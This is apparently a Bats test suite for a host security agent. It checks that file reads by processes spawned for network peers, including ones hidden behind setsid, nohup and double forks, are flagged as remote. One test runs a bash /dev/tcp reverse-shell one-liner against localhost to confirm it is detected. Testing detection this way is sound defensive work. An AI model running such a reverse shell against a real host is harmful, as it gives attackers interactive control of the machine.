#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
#
# Goal: whoever acts for a connected peer is remote, with that peer, whatever became of the process
# in between; a server that reads a recording itself is a service.

load host.bash

setup() {
	host_setup
	CLIP=$REC/clip
	echo picture >"$CLIP"
}

teardown() { host_teardown; }

# serve KIND COMMAND…: sets PORT and SERVER.
serve() {
	background "$ACTOR" serve "$@"
	SERVER=$BG_PID
	PORT=$(first_line "$BG_OUT")
}

# call [stay]: a client, sets PEER.
call() {
	background "$ACTOR" connect "$PORT" "$@"
	PEER=127.0.0.1:$(first_line "$BG_OUT")
}

is_remote() {
	is ".origin.type == \"remote\" and .origin.peer == \"$PEER\" and
		.origin.local_port == $PORT and .origin.via == \"$ACTOR\" and
		.origin.outbound == null and .verdict.class == \"remote\" and
		.verdict.severity == \"high\""
}

@test "a server that runs a shell for a connection: remote, with peer, port and program" {
	host_start
	serve fork sh -c "cat $CLIP; :"
	call
	expect '.kind == "open" and .process.comm == "cat"'
	is_remote
	is '.origin.seeded == false'
	is ".process.ancestors | map(.pid) | contains([$SERVER])"
}

@test "a shell on the connection itself, as inetd would start it" {
	host_start
	serve stdio sh -c "cat $CLIP; :"
	call
	expect '.kind == "open" and .process.comm == "cat"'
	is_remote
}

@test "through setsid, nohup, a double fork and env: still remote" {
	host_start
	serve fork bash -c "setsid nohup env A=b bash -c '(cat $CLIP &) ; :' >/dev/null 2>&1 & exit"
	call
	expect '.kind == "open" and .process.comm == "cat"'
	is_remote
}

@test "a thread of a threaded server that spawns for a request: remote" {
	host_start
	serve thread cat "$CLIP"
	call
	expect '.kind == "open" and .process.comm == "cat"'
	is_remote
	# The next one has its own peer, also while another stays connected.
	call stay
	expect ".kind == \"open\" and .process.comm == \"cat\" and .origin.peer == \"$PEER\""
	call
	expect ".kind == \"open\" and .process.comm == \"cat\" and .origin.peer == \"$PEER\""
}

@test "a server that reads the recording itself: service" {
	host_start
	serve http "$CLIP"
	call
	expect ".kind == \"open\" and .process.pid == $SERVER"
	is '.origin.type == "service" and .origin.peer == null and .verdict.class == "service"'
}

@test "a server with an old silent connection that starts a child: service" {
	host_start
	serve idle cat "$CLIP"
	call stay
	expect '.kind == "open" and .process.comm == "cat"' 20
	is '.origin.type == "service" and .origin.peer == null'
}

@test "a reverse shell: remote and outbound, with its peer" {
	host_start
	serve send "cat $CLIP; exit"
	background bash -c "bash -i >& /dev/tcp/127.0.0.1/$PORT 0>&1"
	expect '.kind == "open" and .process.comm == "cat"'
	is ".origin.type == \"remote\" and .origin.peer == \"127.0.0.1:$PORT\""
	is '.origin.outbound == true and .verdict.class == "remote"'
}

@test "a session that was there before the agent: remote, seeded" {
	mkfifo "$W/go"
	serve stdio sh -c "read line <$W/go; cat $CLIP"
	call
	eventually pgrep -P "$SERVER" sh
	host_start
	echo >"$W/go"
	expect '.kind == "open" and .process.comm == "cat"'
	is ".origin.type == \"remote\" and .origin.peer == \"$PEER\" and .origin.seeded == true"
	is ".origin.local_port == $PORT and .origin.via == \"$ACTOR\""
}

@test "nobody connected: service, and not seeded" {
	host_start
	cat "$CLIP"
	expect '.kind == "open" and .process.comm == "cat"'
	is '.origin.type == "service" and .origin.peer == null and .origin.seeded == false'
}
